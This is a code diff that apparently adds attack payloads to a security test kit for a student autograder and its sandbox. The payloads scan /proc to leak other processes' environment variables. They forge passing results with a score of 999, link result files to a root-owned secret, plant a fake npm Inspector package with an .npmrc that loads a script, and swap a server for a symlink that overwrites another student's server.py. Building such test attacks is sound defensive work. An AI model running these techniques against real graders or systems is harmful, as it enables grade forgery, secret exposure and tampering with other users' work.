@@ -242,3 +242,140 @@ def make_attack(parent: Path, name: str, file_name: str, prelude: str) -> Path:
     path = folder / file_name
     path.write_text(with_prelude(path.read_text(encoding="utf-8"), prelude), encoding="utf-8")
     return folder
+
+
+def gradescope_fallback_prelude(secret: Path) -> str:
+    """The attacks on run_autograder's fallback (bubblewrap refused: the grading runs as
+    lab-student, unsandboxed), all from server.py: in every folder named on a command line or
+    serving as a working folder of a process it can see, a passing results.json (and verdict)
+    made read-only, or one made a link to `secret`, a file of root's; a passing verdict written
+    by reopening every descriptor 3 it finds; and every environment value holding MARK printed
+    (the feedback then shows it as what the server printed)."""
+    forged = {"score": 999, "output": FORGED, "tests": [{"name": FORGED, "score": 999, "max_score": 1}]}
+    return LEAK + f"""
+import os as _o, json as _j
+_forged = _j.dumps({forged!r})
+_folders = set()
+for _pid in _o.listdir('/proc'):
+    if not _pid.isdigit():
+        continue
+    try:
+        _folders.update(_a.decode('utf-8', 'replace') for _a in open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0') if _a)
+        _folders.add(_o.readlink(f'/proc/{{_pid}}/cwd'))
+    except OSError:
+        pass
+    try:
+        with open(f'/proc/{{_pid}}/fd/3', 'w') as _f:
+            _f.write(_forged)
+    except OSError:
+        pass
+    try:
+        _leak('environ', open(f'/proc/{{_pid}}/environ', 'rb').read())
+    except OSError:
+        pass
+_leak('own-environ', '\\n'.join(f'{{_k}}={{_v}}' for _k, _v in _o.environ.items()))
+for _folder in sorted(_folders):
+    if not _o.path.isdir(_folder):
+        continue
+    for _name in ('results.json', 'verdict.json'):
+        _target = _o.path.join(_folder, _name)
+        try:
+            _o.unlink(_target)
+        except OSError:
+            pass
+        try:
+            if _name == 'results.json':
+                _o.symlink({str(secret)!r}, _target)
+            else:
+                with open(_target, 'w') as _f:
+                    _f.write(_forged)
+                _o.chmod(_target, 0o444)
+        except OSError:
+            pass
+print('ATTACK RAN', flush=True)
+"""
+
+
+# Whether this bonus server was started by a real client (the SDK or the Inspector): those give
+# it the sandbox's clean environment, the kit's own stdio sessions a PYTHONIOENCODING.
+BY_A_REAL_CLIENT = "import os as _o\n_by_client = 'PYTHONIOENCODING' not in _o.environ\n"
+
+
+def planted_inspector_prelude(marker: Path) -> str:
+    """Attack #4 of issue 23, from bonus_server.py: at run time, a local Inspector package, its
+    `.bin` command and a `.npmrc` whose node-options load a script, all in the server's folder
+    (the private copy), each writing `marker` if npm or node ever runs it outside the sandbox,
+    and printing a passing Inspector answer."""
+    script = f"require('fs').writeFileSync({str(marker)!r}, 'ran as the grader'); console.log('{{\"tools\": []}}');\n"
+    return BY_A_REAL_CLIENT + f"""
+import json as _j
+_here = _o.path.dirname(_o.path.abspath(__file__))
+_package = _o.path.join(_here, 'node_modules', '@modelcontextprotocol', 'inspector')
+_o.makedirs(_o.path.join(_package, 'cli', 'build'), exist_ok=True)
+_o.makedirs(_o.path.join(_here, 'node_modules', '.bin'), exist_ok=True)
+with open(_o.path.join(_package, 'package.json'), 'w') as _f:
+    _j.dump({{'name': '@modelcontextprotocol/inspector', 'version': '99.0.0',
+             'bin': {{'mcp-inspector': 'cli/build/cli.js'}}}}, _f)
+for _path in (_o.path.join(_package, 'cli', 'build', 'cli.js'), _o.path.join(_here, 'x.js')):
+    with open(_path, 'w') as _f:
+        _f.write('#!/usr/bin/env node\\n' + {script!r})
+    _o.chmod(_path, 0o755)
+_link = _o.path.join(_here, 'node_modules', '.bin', 'mcp-inspector')
+if not _o.path.lexists(_link):
+    _o.symlink('../@modelcontextprotocol/inspector/cli/build/cli.js', _link)
+with open(_o.path.join(_here, '.npmrc'), 'w') as _f:
+    _f.write('node-options=--require=./x.js\\n')
+with open(_o.path.join(_here, 'package.json'), 'w') as _f:
+    _j.dump({{'name': 'x', 'dependencies': {{'@modelcontextprotocol/inspector': '99.0.0'}}}}, _f)
+"""
+
+
+def swapped_server_prelude(original: Path, victim: Path, marker: Path) -> str:
+    """Attack #5 of issue 23, from bonus_server.py: as the kit's main stdio session ends (the
+    real clients start after it), it makes itself a link to `original` (the
+    submission's own folder in the class folder: a guessed path), which holds a `__main__.py`
+    that rewrites the victim's server.py and writes `marker`. A client that resolved the link
+    would run that folder, with the class folder bound read-write in its sandbox."""
+    return BY_A_REAL_CLIENT + f"""
+def _swap():
+    _self = _o.path.abspath(__file__)
+    try:
+        if not _o.path.islink(_self):
+            _o.unlink(_self)
+            _o.symlink({str(original)!r}, _self)
+    except OSError:
+        pass
+if not _by_client:  # at the end of the kit's main session (the one that probes discover-ready),
+    _read, _seen = _o.read, []  # the one the real clients wait for; its processes end without atexit
+    def _read_then_swap(fd, size):
+        data = _read(fd, size)
+        if fd == 0:
+            _seen.append(data)
+            if not data and b'discover-ready' in b''.join(_seen):
+                _swap()
+        return data
+    _o.read = _read_then_swap
+"""
+
+
+def swapped_server_main(victim: Path, marker: Path) -> str:
+    """The `__main__.py` of swapped_server_prelude's folder."""
+    return (f"open({str(victim / 'server.py')!r}, 'w').write('raise SystemExit(1)\\n')\n"
+            f"open({str(marker)!r}, 'w').write('the class folder was writable')\n")
+
+
+# A model helper that never tries the model: it prints the fallback line with a plausible
+# reason and returns the sample, whatever the case (issue 23's "fallback line without a request").
+FALLBACK_WITHOUT_REQUEST = '''\
+import os
+from plumbing import Answer, model_settings
+
+def ask(messages, sample, max_tokens=80):
+    settings = model_settings()
+    url = os.environ.get("AI_URL", "")
+    reason = "HTTP 503" if "/error" in url else "timeout" if "/slow" in url else "connection refused"
+    line = {"fr": "Échantillon enregistré : aucun modèle n’a répondu ({}).",
+            "en": "Recorded sample: no model answered ({})."}[settings.lang]
+    print(line.format(reason), flush=True)
+    return Answer(sample, recorded=True)
+'''
